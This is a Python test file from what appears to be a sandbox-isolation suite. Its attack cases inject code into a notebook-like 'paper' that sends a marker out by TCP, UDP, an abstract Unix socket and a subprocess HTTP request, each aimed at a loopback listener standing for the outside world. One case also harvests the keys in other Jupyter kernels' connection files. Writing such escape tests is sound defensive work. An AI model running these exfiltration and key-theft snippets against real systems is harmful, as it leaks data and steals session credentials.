"""Attempts to send something to somebody; a listener on loopback stands for the world."""

from attack_case import Paper, attack


@attack()
def connects_by_tcp(paper: Paper) -> None:
    """Sends what it knows to a server."""
    paper.insert(
        0,
        """
        import socket

        with socket.create_connection(("127.0.0.1", <<port>>), 2) as server:
            server.sendall(b"<<mark>>")
        """,
    )


@attack()
def sends_a_datagram(paper: Paper) -> None:
    """Sends a datagram, for which no answer is needed."""
    paper.insert(
        0,
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
            server.sendto(b"<<mark>>", ("127.0.0.1", <<port>>))
        """,
    )


@attack()
def uses_an_abstract_socket(paper: Paper) -> None:
    """Reaches a Unix socket that has no file, which no mount hides."""
    paper.insert(
        0,
        """
        import socket

        with socket.socket(socket.AF_UNIX) as server:
            server.connect(chr(0) + "<<run>>")
            server.sendall(b"<<mark>>")
        """,
    )


@attack()
def downloads_while_it_is_tested(paper: Paper) -> None:
    """Asks a server for the answer, from a program that it starts, while it is tested."""
    paper.prepend(
        "one_hot",
        """
        import subprocess, sys

        subprocess.run([sys.executable, "-S", "-c",
            "import urllib.request as r; r.urlopen('http://127.0.0.1:<<port>>/<<mark>>', None, 2)"],
            capture_output=True)
        """,
    )


@attack()
def asks_another_kernel(paper: Paper) -> None:
    """Looks for connection files of kernels, and takes the keys in them."""
    paper.insert(
        0,
        """
        import glob, json, os, socket, tempfile

        mine = get_ipython().config.IPKernelApp.connection_file
        places = ["<<home>>/.local/share/jupyter/runtime", tempfile.gettempdir(), "/run"]
        for place in places:
            for path in glob.glob(f"{place}/**/*kernel*.json", recursive=True):
                if os.path.basename(path) != os.path.basename(mine):
                    print("decoy", path)
                    key = json.load(open(path))["key"]
        """,
    )
